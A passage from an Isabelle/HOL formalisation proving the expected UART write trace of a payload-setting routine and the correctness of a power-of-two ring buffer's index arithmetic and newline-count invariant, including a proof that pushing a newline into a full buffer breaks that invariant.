  have B: "\<exists>s'. craft_and_set_payload ?B =
       Some (\<lparr>rtype = kOk, rstatus = 0, rresponse = []\<rparr>, s') \<and>
     rx_script s' = [] \<and>
     trace s' =
         [UartWrite [CHR 0x15] True,
          BusyWaitMs 10,
          UartWrite (''puareq1 0:0F'' @ [CHR 0x0A]) True,
          UartWrite (''puareq2 0 00631700056317000F00000000000000000000000000000041000000BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD:76'' @ [CHR 0x0A]) True,
          UartWrite (''puareq2 1 BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD:5D'' @ [CHR 0x0A]) True,
          UartWrite (''puareq2 2 BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD:5E'' @ [CHR 0x0A]) True,
          UartWrite (''puareq2 3 BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD00000000000000000000000000:71'' @ [CHR 0x0A]) True]"
    unfolding crB spB tB by simp
  from A B show ?thesis by (rule conjI)
qed

section \<open>Ring arithmetic at every capacity\<close>

text \<open>
  The capacity is a power of two below \<open>2 ^ 32\<close>, so masking with \<open>len_mask\<close> is the
  remainder modulo the capacity, and \<open>read_available\<close> is the distance from \<open>rpos\<close>
  to \<open>wpos\<close> around the ring.
\<close>

lemma unat_pow2:
  assumes "k < 32"
  shows "unat (2 ^ k :: size_t) = 2 ^ k"
proof -
  have "(2 ^ k :: size_t) = of_nat (2 ^ k)" by simp
  then have "unat (2 ^ k :: size_t) = 2 ^ k mod 2 ^ 32"
    by (simp only: unat_of_nat) simp
  moreover from assms have "(2 :: nat) ^ k < 2 ^ 32"
    by (intro power_strict_increasing) simp_all
  ultimately show ?thesis by simp
qed

lemma wf_pow2:
  assumes "buffer_wf N s"
  obtains k where "k < 32" "N = 2 ^ k" "unat N = 2 ^ k"
proof -
  from assms obtain k where k: "k < 32" "N = 2 ^ k"
    by (auto simp: buffer_wf_def)
  then have "unat N = 2 ^ k"
    by (simp add: unat_pow2)
  with k show ?thesis using that by blast
qed

lemma add_pow2:
  assumes "k < 32" "N = (2 ^ k :: size_t)"
  shows "unat (add N a b) = (unat a + unat b) mod 2 ^ k"
proof -
  have "N - 1 = mask k" using assms by (simp add: mask_eq_exp_minus_1)
  then have "unat (add N a b) = unat (take_bit k (a + b))"
    by (simp add: add_def len_mask_def take_bit_eq_mask)
  also have "\<dots> = unat (a + b) mod 2 ^ k"
    by (simp only: unsigned_take_bit_eq) (simp add: take_bit_eq_mod)
  also have "\<dots> = ((unat a + unat b) mod 2 ^ 32) mod 2 ^ k"
    by (simp add: unat_word_ariths)
  also have "\<dots> = (unat a + unat b) mod 2 ^ k"
  proof (rule mod_mod_cancel)
    show "(2 :: nat) ^ k dvd 2 ^ 32"
      using assms(1) by (intro le_imp_power_dvd) simp
  qed
  finally show ?thesis .
qed

lemma ring_offset_unique:
  fixes n r w a :: nat
  assumes "r < n" "w < n" "a < n"
  shows "(w + n - r) mod n = a \<longleftrightarrow> (r + a) mod n = w"
proof
  assume "(w + n - r) mod n = a"
  then have "(r + a) mod n = (r + (w + n - r)) mod n"
    by (metis mod_add_right_eq)
  also have "\<dots> = (w + n) mod n" using assms(1) by simp
  also have "\<dots> = w" using assms(2) by simp
  finally show "(r + a) mod n = w" .
next
  assume h: "(r + a) mod n = w"
  show "(w + n - r) mod n = a"
  proof (cases "r + a < n")
    case True
    with h have "w = r + a" by simp
    then show ?thesis using assms(3) by simp
  next
    case False
    then have "(r + a) mod n = r + a - n"
      using assms(1,3) by (simp add: le_mod_geq)
    with h have "w = r + a - n" by simp
    with False have "w + n - r = a" by simp
    then show ?thesis using assms(3) by simp
  qed
qed

lemma wf_fields:
  assumes "buffer_wf N s"
  shows "unat (rpos s) < unat N" "unat (wpos s) < unat N" "length (buffer s) = unat N"
    "0 < unat N" "unat N \<le> 2 ^ 31"
proof -
  from assms show "unat (rpos s) < unat N" "unat (wpos s) < unat N"
    by (simp_all add: buffer_wf_def word_less_nat_alt)
  from assms show "length (buffer s) = unat N" by (simp add: buffer_wf_def)
  from assms obtain k where k: "k < 32" "unat N = 2 ^ k" by (rule wf_pow2)
  then show "0 < unat N" by simp
  from k(1) have "k \<le> 31" by simp
  then have "(2 :: nat) ^ k \<le> 2 ^ 31" by (intro power_increasing) simp_all
  with k(2) show "unat N \<le> 2 ^ 31" by simp
qed

lemma unat_add_wf:
  assumes "buffer_wf N s"
  shows "unat (add N a b) = (unat a + unat b) mod unat N"
proof -
  from assms obtain k where "k < 32" "N = 2 ^ k" "unat N = 2 ^ k" by (rule wf_pow2)
  then show ?thesis using add_pow2 [of k N a b] by simp
qed

lemma unat_read_available:
  assumes "buffer_wf N s"
  shows "unat (read_available N s) = (unat (wpos s) + unat N - unat (rpos s)) mod unat N"
proof -
  note f = wf_fields [OF assms]
  show ?thesis
  proof (cases "rpos s \<le> wpos s")
    case True
    then have le: "unat (rpos s) \<le> unat (wpos s)" by (simp add: word_le_nat_alt)
    from True have "unat (read_available N s) = unat (wpos s) - unat (rpos s)"
      by (simp add: read_available_def unat_sub)
    moreover have "(unat (wpos s) + unat N - unat (rpos s)) mod unat N =
        unat (wpos s) - unat (rpos s)"
    proof -
      have e: "unat (wpos s) + unat N - unat (rpos s) = (unat (wpos s) - unat (rpos s)) + unat N"
        using le by arith
      have l: "unat (wpos s) - unat (rpos s) < unat N" using f(2) by arith
      show ?thesis unfolding e using l by simp
    qed
    ultimately show ?thesis by simp
  next
    case False
    then have lt: "unat (wpos s) < unat (rpos s)" by (simp add: word_less_nat_alt not_le)
    have "rpos s \<le> N" using f(1) by (simp add: word_le_nat_alt)
    then have a: "unat (N - rpos s) = unat N - unat (rpos s)" by (simp add: unat_sub)
    have "unat (N - rpos s) + unat (wpos s) < 2 ^ 32"
      using a f(1,5) lt by simp
    then have "unat (N - rpos s + wpos s) = unat N - unat (rpos s) + unat (wpos s)"
      using a by (simp add: unat_word_ariths)
    moreover have "(unat (wpos s) + unat N - unat (rpos s)) mod unat N =
        unat N - unat (rpos s) + unat (wpos s)"
    proof -
      have e: "unat (wpos s) + unat N - unat (rpos s) = unat N - unat (rpos s) + unat (wpos s)"
        using f(1) by arith
      have l: "unat N - unat (rpos s) + unat (wpos s) < unat N" using lt f(1) by arith
      show ?thesis unfolding e using l by simp
    qed
    ultimately show ?thesis using False by (simp add: read_available_def)
  qed
qed

lemma available_bound:
  "buffer_wf N s \<Longrightarrow> unat (read_available N s) \<le> unat N - 1"
  using wf_fields(4) [of N s] by (simp add: unat_read_available less_Suc_eq_le [symmetric])

lemma stored_nat:
  assumes "buffer_wf N s"
  shows "stored N s =
     map (\<lambda>i. buffer s ! ((unat (rpos s) + i) mod unat N))
       [0..<(unat (wpos s) + unat N - unat (rpos s)) mod unat N]"
proof -
  note f = wf_fields [OF assms]
  have "unat (add N (rpos s) (of_nat i)) = (unat (rpos s) + i) mod unat N"
    if "i < (unat (wpos s) + unat N - unat (rpos s)) mod unat N" for i
  proof -
    from that have "i < unat N" using f(4) by (meson less_trans mod_less_divisor)
    with f(5) have "i < 2 ^ 32" by simp
    then have "unat (of_nat i :: size_t) = i" by (simp add: unat_of_nat)
    then show ?thesis by (simp add: unat_add_wf [OF assms])
  qed
  then show ?thesis
    by (simp add: stored_def unat_read_available [OF assms])
qed


lemma ring_end:
  fixes n r w :: nat
  assumes "r < n" "w < n"
  shows "(r + (w + n - r) mod n) mod n = w"
proof -
  have "(w + n - r) mod n < n" using assms(1) by simp
  then show ?thesis
    using ring_offset_unique [of r n w "(w + n - r) mod n"] assms by simp
qed

lemma ring_advance_read:
  fixes n r w j :: nat
  assumes "r < n" "w < n" "j \<le> (w + n - r) mod n"
  shows "(w + n - (r + j) mod n) mod n = (w + n - r) mod n - j"
proof -
  define a where "a = (w + n - r) mod n"
  have a: "a < n" using assms(1) by (simp add: a_def)
  have j: "j \<le> a" using assms(3) by (simp add: a_def)
  have "((r + j) mod n + (a - j)) mod n = (r + j + (a - j)) mod n"
    by (simp add: mod_add_left_eq)
  also have "r + j + (a - j) = r + a" using j by simp
  also have "(r + a) mod n = w"
    unfolding a_def using assms(1,2) by (rule ring_end)
  finally have "((r + j) mod n + (a - j)) mod n = w" .
  moreover have "(r + j) mod n < n" "a - j < n" using a assms(1) by simp_all
  ultimately have "(w + n - (r + j) mod n) mod n = a - j"
    using ring_offset_unique [of "(r + j) mod n" n w "a - j"] assms(2) by simp
  then show ?thesis by (simp add: a_def)
qed

lemma ring_advance_write:
  fixes n r w :: nat
  assumes "r < n" "w < n" "(w + 1) mod n \<noteq> r"
  shows "((w + 1) mod n + n - r) mod n = (w + n - r) mod n + 1"
    and "(w + n - r) mod n + 1 < n"
proof -
  define a where "a = (w + n - r) mod n"
  have a: "a < n" using assms(1) by (simp add: a_def)
  have e: "(r + a) mod n = w"
    unfolding a_def using assms(1,2) by (rule ring_end)
  have s: "(r + (a + 1)) mod n = (w + 1) mod n"
  proof -
    have "(r + (a + 1)) mod n = ((r + a) mod n + 1) mod n"
      using mod_add_left_eq [of "r + a" n 1] by (simp only: add.assoc)
    then show ?thesis by (simp only: e)
  qed
  have l: "a + 1 < n"
  proof (rule ccontr)
    assume "\<not> a + 1 < n"
    with a have "a + 1 = n" by simp
    then have "(r + (a + 1)) mod n = r" using assms(1) by simp
    with s assms(3) show False by simp
  qed
  have "(w + 1) mod n < n" using assms(1) by simp
  then have "((w + 1) mod n + n - r) mod n = a + 1"
    using ring_offset_unique [of r n "(w + 1) mod n" "a + 1"] assms(1) l s by simp
  then show "((w + 1) mod n + n - r) mod n = (w + n - r) mod n + 1"
    by (simp add: a_def)
  from l show "(w + n - r) mod n + 1 < n" by (simp add: a_def)
qed

lemma add_less_wf:
  assumes "buffer_wf N s"
  shows "add N a b < N"
proof -
  note f = wf_fields [OF assms]
  have "unat (add N a b) < unat N"
    using f(4) by (simp add: unat_add_wf [OF assms])
  then show ?thesis by (simp add: word_less_nat_alt)
qed

lemma wf_clear: "buffer_wf N s \<Longrightarrow> buffer_wf N (clear s)"
proof -
  assume a: "buffer_wf N s"
  from wf_fields(4) [OF a] have "0 < N" by (simp add: word_less_nat_alt)
  with a show ?thesis by (simp add: buffer_wf_def clear_def)
qed

lemma wf_push: "buffer_wf N s \<Longrightarrow> buffer_wf N (push N s b)"
proof -
  assume a: "buffer_wf N s"
  from add_less_wf [OF a] have "add N (wpos s) 1 < N" .
  with a show ?thesis by (simp add: buffer_wf_def push_def Let_def)
qed


section \<open>The stored bytes under the operations\<close>

text \<open>
  Advancing \<open>rpos\<close> by \<open>j\<close> drops the \<open>j\<close> oldest bytes; a push that finds room
  appends its byte.
\<close>

lemma unat_available_less:
  "buffer_wf N s \<Longrightarrow> unat (read_available N s) < unat N"
  using wf_fields(4) [of N s] by (simp add: unat_read_available)

lemma length_stored: "length (stored N s) = unat (read_available N s)"
  by (simp add: stored_def)

lemma nth_stored:
  assumes "buffer_wf N s" "i < unat (read_available N s)"
  shows "stored N s ! i = buffer s ! ((unat (rpos s) + i) mod unat N)"
  using assms(2) by (simp add: stored_nat [OF assms(1)] unat_read_available [OF assms(1)])

lemma stored_advance:
  assumes wf: "buffer_wf N s" and b: "buffer s' = buffer s" and w: "wpos s' = wpos s"
    and r: "unat (rpos s') = (unat (rpos s) + j) mod unat N"
    and j: "j \<le> unat (read_available N s)"
  shows "buffer_wf N s'" "unat (read_available N s') = unat (read_available N s) - j"
    "stored N s' = drop j (stored N s)"
proof -
  note f = wf_fields [OF wf]
  have "unat (rpos s') < unat N" using f(4) by (simp add: r)
  then have "rpos s' < N" by (simp add: word_less_nat_alt)
  with wf b w show wf': "buffer_wf N s'" by (simp add: buffer_wf_def)
  have "j \<le> (unat (wpos s) + unat N - unat (rpos s)) mod unat N"
    using j by (simp add: unat_read_available [OF wf])
  from ring_advance_read [OF f(1) f(2) this]
  show a: "unat (read_available N s') = unat (read_available N s) - j"
    by (simp add: unat_read_available [OF wf] unat_read_available [OF wf'] r w)
  show "stored N s' = drop j (stored N s)"
  proof (rule nth_equalityI)
    show "length (stored N s') = length (drop j (stored N s))"
      by (simp add: length_stored a)
  next
    fix i
    assume "i < length (stored N s')"
    then have i: "i < unat (read_available N s) - j" by (simp add: length_stored a)
    then have i': "i < unat (read_available N s')" by (simp add: a)
    from i have ji: "j + i < unat (read_available N s)" by simp
    have "((unat (rpos s) + j) mod unat N + i) mod unat N =
        (unat (rpos s) + (j + i)) mod unat N"
      using mod_add_left_eq [of "unat (rpos s) + j" "unat N" i] by (simp only: add.assoc)
    then have "stored N s' ! i = stored N s ! (j + i)"
      by (simp add: nth_stored [OF wf' i'] nth_stored [OF wf ji] r b)
    then show "stored N s' ! i = drop j (stored N s) ! i"
      using ji by (simp add: length_stored)
  qed
qed

lemma stored_push:
  assumes wf: "buffer_wf N s" and nf: "add N (wpos s) 1 \<noteq> rpos s"
    and s': "s' = s\<lparr>buffer := (buffer s)[unat (wpos s) := b], wpos := add N (wpos s) 1\<rparr>"
  shows "buffer_wf N s'" "unat (read_available N s') = unat (read_available N s) + 1"
    "stored N s' = stored N s @ [b]"
proof -
  note f = wf_fields [OF wf]
  have wn: "unat (wpos s') = (unat (wpos s) + 1) mod unat N"
    by (simp add: s' unat_add_wf [OF wf])
  have "unat (add N (wpos s) 1) \<noteq> unat (rpos s)"
    using nf by (simp add: word_eq_iff_unsigned [where ?'a = nat])
  then have ne: "(unat (wpos s) + 1) mod unat N \<noteq> unat (rpos s)"
    by (simp add: unat_add_wf [OF wf])
  from add_less_wf [OF wf] have "add N (wpos s) 1 < N" .
  with wf show wf': "buffer_wf N s'" by (simp add: buffer_wf_def s')
  note adv = ring_advance_write [OF f(1) f(2) ne]
  have r': "rpos s' = rpos s" by (simp add: s')
  show a: "unat (read_available N s') = unat (read_available N s) + 1"
    using adv(1) by (simp add: unat_read_available [OF wf] unat_read_available [OF wf'] wn r')
  show "stored N s' = stored N s @ [b]"
  proof (rule nth_equalityI)
    show "length (stored N s') = length (stored N s @ [b])"
      by (simp add: length_stored a)
  next
    fix i
    assume "i < length (stored N s')"
    then have i: "i < unat (read_available N s) + 1" by (simp add: length_stored a)
    then have i': "i < unat (read_available N s')" by (simp add: a)
    have n: "stored N s' ! i = (buffer s)[unat (wpos s) := b] ! ((unat (rpos s) + i) mod unat N)"
      by (simp add: nth_stored [OF wf' i'] r') (simp add: s')
    have iN: "i < unat N"
      using i adv(2) by (simp add: unat_read_available [OF wf])
    have u: "(unat (rpos s) + i) mod unat N = unat (wpos s) \<longleftrightarrow> i = unat (read_available N s)"
      using ring_offset_unique [OF f(1) f(2) iN] by (auto simp: unat_read_available [OF wf])
    show "stored N s' ! i = (stored N s @ [b]) ! i"
    proof (cases "i = unat (read_available N s)")
      case True
      with u have "(unat (rpos s) + i) mod unat N = unat (wpos s)" by simp
      with n f(2,3) have "stored N s' ! i = b" by simp
      with True show ?thesis by (simp add: nth_append length_stored)
    next
      case False
      with i have lt: "i < unat (read_available N s)" by simp
      from False u have "(unat (rpos s) + i) mod unat N \<noteq> unat (wpos s)" by simp
      with n have "stored N s' ! i = buffer s ! ((unat (rpos s) + i) mod unat N)" by simp
      with lt show ?thesis by (simp add: nth_append length_stored nth_stored [OF wf lt])
    qed
  qed
qed


section \<open>Operations that keep the invariant\<close>

text \<open>
  On a well-formed buffer the bound on \<open>read_available\<close> always holds
  (\<open>available_bound\<close>). The counter stays equal to the number of stored newlines under
  \<open>clear\<close>, \<open>read_buf\<close>, \<open>read_line\<close>, and under \<open>push\<close> unless the buffer is full and the
  byte is a newline; in that case \<open>push\<close> breaks the invariant at every capacity.
\<close>

lemma buffer_inv_clear: "buffer_inv N (clear s)"
  by (simp add: buffer_inv_def clear_def read_available_def stored_def)

lemma count_le_available:
  "count_list (stored N s) x \<le> unat (read_available N s)"
  using count_le_length [of "stored N s" x] by (simp add: length_stored)

lemma unat_counter_inc:
  assumes "buffer_wf N s" "buffer_inv N s"
  shows "unat (num_newlines s + 1) = unat (num_newlines s) + 1"
proof -
  have "unat (num_newlines s) \<le> unat (read_available N s)"
    using assms(2) count_le_available [of N s newline] by (simp add: buffer_inv_def)
  also have "\<dots> < unat N" using assms(1) by (rule unat_available_less)
  also have "\<dots> \<le> 2 ^ 31" using wf_fields(5) [OF assms(1)] .
  finally have "unat (num_newlines s) + 1 < 2 ^ 32" by simp
  then show ?thesis by (simp add: unat_word_ariths)
qed

lemma unat_counter_dec:
  assumes "0 < unat (c :: size_t)"
  shows "unat (c - 1) = unat c - 1"
proof -
  from assms have "1 \<le> c" by (simp add: word_le_nat_alt)
  then show ?thesis by (simp add: unat_sub)
qed

lemma buffer_inv_push:
  assumes wf: "buffer_wf N s" and inv: "buffer_inv N s"
    and ok: "\<not> (add N (wpos s) 1 = rpos s \<and> b = newline)"
  shows "buffer_inv N (push N s b)"
proof (cases "add N (wpos s) 1 = rpos s")
  case True
  with ok have "b \<noteq> newline" by simp
  with True inv show ?thesis by (simp add: push_def Let_def)
next
  case False
  define s1 where "s1 = s\<lparr>buffer := (buffer s)[unat (wpos s) := b], wpos := add N (wpos s) 1\<rparr>"
  note p = stored_push [OF wf False s1_def]
  have n1: "num_newlines s1 = num_newlines s" by (simp add: s1_def)
  have bound: "unat (read_available N s1) \<le> unat N - 1"
    using unat_available_less [OF p(1)] by simp
  have c: "count_list (stored N s1) newline =
      count_list (stored N s) newline + (if b = newline then 1 else 0)"
    by (simp add: p(3))
  show ?thesis
  proof (cases "b = newline")
    case True
    have "push N s b = s1\<lparr>num_newlines := num_newlines s + 1\<rparr>"
      using False True by (simp add: push_def Let_def s1_def)
    moreover have "read_available N (s1\<lparr>num_newlines := num_newlines s + 1\<rparr>) = read_available N s1"
      "stored N (s1\<lparr>num_newlines := num_newlines s + 1\<rparr>) = stored N s1"
      by (simp_all add: read_available_def stored_def)
    ultimately show ?thesis
      using bound c True inv unat_counter_inc [OF wf inv] by (simp add: buffer_inv_def)
  next
    case b: False
    have "push N s b = s1"
      using False b by (simp add: push_def Let_def s1_def)
    then show ?thesis
      using bound c b inv n1 by (simp add: buffer_inv_def)
  qed
qed

lemma push_full_newline:
  assumes "buffer_inv N s" "add N (wpos s) 1 = rpos s"
  shows "\<not> buffer_inv N (push N s newline)"
proof -
  have p: "push N s newline = s\<lparr>num_newlines := num_newlines s + 1\<rparr>"
    using assms(2) by (simp add: push_def Let_def)
  have "stored N (s\<lparr>num_newlines := num_newlines s + 1\<rparr>) = stored N s"
    by (simp add: read_available_def stored_def)
  moreover have "unat (num_newlines s + 1) \<noteq> unat (num_newlines s)"
    by (simp add: word_eq_iff_unsigned [where ?'a = nat, symmetric])
  ultimately show ?thesis
    using assms(1) by (simp add: p buffer_inv_def)
qed


lemma buffer_inv_advance:
  assumes wf: "buffer_wf N s" and inv: "buffer_inv N s"
    and b: "buffer s' = buffer s" and w: "wpos s' = wpos s"
    and r: "unat (rpos s') = (unat (rpos s) + j) mod unat N"
    and j: "j \<le> unat (read_available N s)"
    and c: "unat (num_newlines s') =
        unat (num_newlines s) - count_list (take j (stored N s)) newline"
  shows "buffer_wf N s' \<and> buffer_inv N s'"
proof -
  note a = stored_advance [OF wf b w r j]
  have "count_list (stored N s) newline =
      count_list (take j (stored N s)) newline + count_list (drop j (stored N s)) newline"
    using count_list_append [of "take j (stored N s)" "drop j (stored N s)" newline]
    by (simp only: append_take_drop_id)
  with inv c have "unat (num_newlines s') = count_list (drop j (stored N s)) newline"
    by (simp add: buffer_inv_def)
  moreover have "unat (read_available N s') \<le> unat N - 1"
    using unat_available_less [OF a(1)] by simp
  ultimately show ?thesis using a(1,3) by (simp add: buffer_inv_def)
qed

lemma stored_head:
  assumes wf: "buffer_wf N s" and ne: "0 < unat (read_available N s)"
  shows "take (Suc 0) (stored N s) = [buffer s ! unat (rpos s)]"
proof -
  have "stored N s ! 0 = buffer s ! unat (rpos s)"
    using wf_fields(1) [OF wf] by (simp add: nth_stored [OF wf ne])
  moreover have "stored N s \<noteq> []" using ne length_stored [of N s] by auto
  ultimately show ?thesis by (cases "stored N s") simp_all
qed

lemma read_buf_loop_inv:
  "buffer_wf N s \<Longrightarrow> buffer_inv N s \<Longrightarrow> unat len - unat i \<le> unat (read_available N s) \<Longrightarrow>
   read_buf_loop N s out i len = (s', out') \<Longrightarrow>
   buffer_wf N s' \<and> buffer_inv N s' \<and>
   out' = out @ take (unat len - unat i) (stored N s) \<and>
   stored N s' = drop (unat len - unat i) (stored N s)"
proof (induction N s out i len rule: read_buf_loop.induct)
  case (1 N s out i len)
  show ?case
  proof (cases "i < len")
    case False
    then have "unat len - unat i = 0" by (simp add: word_less_nat_alt)
    with False 1(2,3,5) show ?thesis
      by (subst (asm) read_buf_loop.simps) simp
  next
    case True
    then have u: "unat (i + 1) = unat i + 1" "unat i < unat len"
      by unat_arith+
    define c where "c = buffer s ! unat (rpos s)"
    define s1 where "s1 = (if c = newline then s\<lparr>num_newlines := num_newlines s - 1\<rparr> else s)"
    define s2 where "s2 = s1\<lparr>rpos := add N (rpos s1) 1\<rparr>"
    from u(2) 1(4) have ne: "0 < unat (read_available N s)" by simp
    have hd: "take (Suc 0) (stored N s) = [c]"
      unfolding c_def using 1(2) ne by (rule stored_head)
    have r1: "rpos s1 = rpos s" by (simp add: s1_def)
    have b2: "buffer s2 = buffer s" "wpos s2 = wpos s" by (simp_all add: s2_def s1_def)
    have r2: "unat (rpos s2) = (unat (rpos s) + Suc 0) mod unat N"
      by (simp add: s2_def r1 unat_add_wf [OF 1(2)])
    have j: "Suc 0 \<le> unat (read_available N s)" using ne by simp
    have n2: "unat (num_newlines s2) =
        unat (num_newlines s) - count_list (take (Suc 0) (stored N s)) newline"
    proof (cases "c = newline")
      case False
      then show ?thesis by (simp add: hd s2_def s1_def)
    next
      case True
      have "count_list (stored N s) newline =
          count_list (take (Suc 0) (stored N s)) newline + count_list (drop (Suc 0) (stored N s)) newline"
        using count_list_append [of "take (Suc 0) (stored N s)" "drop (Suc 0) (stored N s)" newline]
        by (simp only: append_take_drop_id)
      with True have "0 < count_list (stored N s) newline" by (simp add: hd)
      with 1(3) have "0 < unat (num_newlines s)" by (simp add: buffer_inv_def)
      then have "unat (num_newlines s - 1) = unat (num_newlines s) - 1"
        by (rule unat_counter_dec)
      with True show ?thesis by (simp add: hd s2_def s1_def)
    qed
    from buffer_inv_advance [OF 1(2) 1(3) b2 r2 j n2]
    have wi: "buffer_wf N s2" "buffer_inv N s2" by simp_all
    note a = stored_advance [OF 1(2) b2 r2 j]
    have le: "unat len - unat (i + 1) \<le> unat (read_available N s2)"
      using 1(4) u by (simp add: a(2))
    have rec: "read_buf_loop N s2 (out @ [c]) (i + 1) len = (s', out')"
      using 1(5) True by (subst (asm) read_buf_loop.simps) (simp add: Let_def c_def s1_def s2_def)
    from 1(1) [OF True c_def s1_def wi [unfolded s2_def] le [unfolded s2_def] rec [unfolded s2_def]]
    have res: "buffer_wf N s' \<and> buffer_inv N s' \<and>
        out' = (out @ [c]) @ take (unat len - unat (i + 1)) (stored N s2) \<and>
        stored N s' = drop (unat len - unat (i + 1)) (stored N s2)"
      by (simp only: s2_def)
    obtain k where k: "unat len - unat i = Suc k" "unat len - unat (i + 1) = k"
      using u by (cases "unat len - unat i") auto
    have "[c] @ take k (drop (Suc 0) (stored N s)) = take (Suc k) (stored N s)"
      using hd by (cases "stored N s") simp_all
    moreover have "drop k (drop (Suc 0) (stored N s)) = drop (Suc k) (stored N s)"
      by simp
    ultimately show ?thesis
      using res by (simp add: k a(3))
  qed
qed


lemma read_buf_inv:
  assumes wf: "buffer_wf N s" and inv: "buffer_inv N s"
    and rb: "read_buf N s len0 = (len, s', out)"
  shows "buffer_wf N s' \<and> buffer_inv N s' \<and> len = min len0 (read_available N s) \<and>
     out = take (unat len) (stored N s) \<and> stored N s' = drop (unat len) (stored N s)"
proof -
  define l where "l = min len0 (read_available N s)"
  obtain s1 out1 where lp: "read_buf_loop N s [] 0 l = (s1, out1)"
    by (cases "read_buf_loop N s [] 0 l")
  from rb have "(l, s1, out1) = (len, s', out)"
    unfolding read_buf_def Let_def l_def [symmetric] lp by simp
  then have e: "len = l" "s' = s1" "out = out1"
    by simp_all
  have "l \<le> read_available N s" by (simp add: l_def)
  then have "unat l - unat (0 :: size_t) \<le> unat (read_available N s)"
    by (simp add: word_le_nat_alt)
  from read_buf_loop_inv [OF wf inv this lp] show ?thesis
    by (simp add: e) (simp add: l_def)
qed

lemma read_line_scan_inv:
  "buffer_wf N s \<Longrightarrow> buffer_inv N s \<Longrightarrow> avail = read_available N s \<Longrightarrow>
   newline \<notin> set (take (unat i) (stored N s)) \<Longrightarrow>
   read_line_scan N s line i avail = (g, s', line') \<Longrightarrow>
   buffer_wf N s' \<and> buffer_inv N s'"
proof (induction N s line i avail arbitrary: g s' line' rule: read_line_scan.induct)
  case (1 N s line i avail)
  show ?case
  proof (cases "i < avail")
    case False
    with 1(2,3,6) show ?thesis
      by (subst (asm) read_line_scan.simps) simp
  next
    case True
    then have u: "unat (i + 1) = unat i + 1" "unat i < unat avail"
      by unat_arith+
    note f = wf_fields [OF 1(2)]
    from u(2) 1(4) have ia: "unat i < unat (read_available N s)" by simp
    define cpos where "cpos = add N (rpos s) i"
    define c where "c = buffer s ! unat cpos"
    have cp: "unat cpos = (unat (rpos s) + unat i) mod unat N"
      by (simp add: cpos_def unat_add_wf [OF 1(2)])
    have cs: "c = stored N s ! unat i"
      by (simp add: c_def cp nth_stored [OF 1(2) ia])
    have tk: "take (Suc (unat i)) (stored N s) = take (unat i) (stored N s) @ [c]"
      using ia by (simp add: cs take_Suc_conv_app_nth length_stored)
    show ?thesis
    proof (cases "c = newline")
      case False
      have rec: "read_line_scan N s (line @ [char_of_u8 c]) (i + 1) avail = (g, s', line')"
        using 1(6) True False
        by (subst (asm) read_line_scan.simps) (simp add: Let_def c_def cpos_def)
      have nn: "newline \<notin> set (take (unat (i + 1)) (stored N s))"
        using 1(5) False by (simp add: u(1) tk)
      from 1(1) [OF True cpos_def c_def False 1(2) 1(3) 1(4) nn rec]
      show ?thesis .
    next
      case nl: True
      define s1 where "s1 = s\<lparr>num_newlines := num_newlines s - 1, rpos := add N cpos 1\<rparr>"
      have res: "s' = s1"
        using 1(6) True nl
        by (subst (asm) read_line_scan.simps) (simp add: Let_def c_def cpos_def s1_def)
      have b1: "buffer s1 = buffer s" "wpos s1 = wpos s" by (simp_all add: s1_def)
      have "unat (rpos s1) = ((unat (rpos s) + unat i) mod unat N + 1) mod unat N"
        by (simp add: s1_def unat_add_wf [OF 1(2)] cp)
      also have "\<dots> = (unat (rpos s) + Suc (unat i)) mod unat N"
        using mod_add_left_eq [of "unat (rpos s) + unat i" "unat N" 1] by simp
      finally have r1: "unat (rpos s1) = (unat (rpos s) + Suc (unat i)) mod unat N" .
      have j: "Suc (unat i) \<le> unat (read_available N s)" using ia by simp
      have ct: "count_list (take (Suc (unat i)) (stored N s)) newline = 1"
        using 1(5) nl by (simp add: tk count_list_0_iff)
      have "count_list (stored N s) newline =
          count_list (take (Suc (unat i)) (stored N s)) newline +
          count_list (drop (Suc (unat i)) (stored N s)) newline"
        using count_list_append [of "take (Suc (unat i)) (stored N s)"
            "drop (Suc (unat i)) (stored N s)" newline]
        by (simp only: append_take_drop_id)
      with ct have "0 < count_list (stored N s) newline" by simp
      with 1(3) have "0 < unat (num_newlines s)" by (simp add: buffer_inv_def)
      then have "unat (num_newlines s - 1) = unat (num_newlines s) - 1"
        by (rule unat_counter_dec)
      then have n1: "unat (num_newlines s1) =
          unat (num_newlines s) - count_list (take (Suc (unat i)) (stored N s)) newline"
        by (simp add: ct s1_def)
      from buffer_inv_advance [OF 1(2) 1(3) b1 r1 j n1] show ?thesis
        by (simp add: res)
    qed
  qed
qed

lemma read_line_inv:
  assumes wf: "buffer_wf N s" and inv: "buffer_inv N s"
    and rl: "read_line N s line = Some (g, s', line')"
  shows "buffer_wf N s' \<and> buffer_inv N s'"
proof (cases "num_newlines s = 0 \<or> empty s")
  case True
  with rl wf inv show ?thesis by (simp add: read_line_def)
next
  case False
  obtain g1 s1 l1 where sc: "read_line_scan N s line 0 (read_available N s) = (g1, s1, l1)"
    by (cases "read_line_scan N s line 0 (read_available N s)")
  have "newline \<notin> set (take (unat (0 :: size_t)) (stored N s))" by simp
  from read_line_scan_inv [OF wf inv refl this sc]
  have r: "buffer_wf N s1 \<and> buffer_inv N s1" .
  have "s' = s1"
    using rl False sc
    by (auto simp: read_line_def split: if_splits option.splits prod.splits bool.splits)
  with r show ?thesis by simp
qed


lemma buffer_init_ok:
  assumes "N \<in> set (map (\<lambda>k. 2 ^ k) [0..<32])"
  shows "buffer_wf N (Buffer_init N) \<and> buffer_inv N (Buffer_init N)"
proof -
  from assms obtain k where k: "k < 32" "N = 2 ^ k" by auto
  have "0 < unat N" using k by (simp add: unat_pow2)
  then have "0 < N" by (simp add: word_less_nat_alt)
  with assms have "buffer_wf N (Buffer_init N)"
    by (simp add: buffer_wf_def Buffer_init_def)
  moreover have "buffer_inv N (Buffer_init N)"
    by (simp add: buffer_inv_def Buffer_init_def read_available_def stored_def)
  ultimately show ?thesis by simp
qed

section \<open>The ring buffer\<close>

lemma mask_1023: "(1023 :: size_t) = mask 10"
  by (simp add: mask_eq_exp_minus_1)

lemma add_1024: "add 1024 a b = of_nat ((unat a + unat b) mod 1024)"
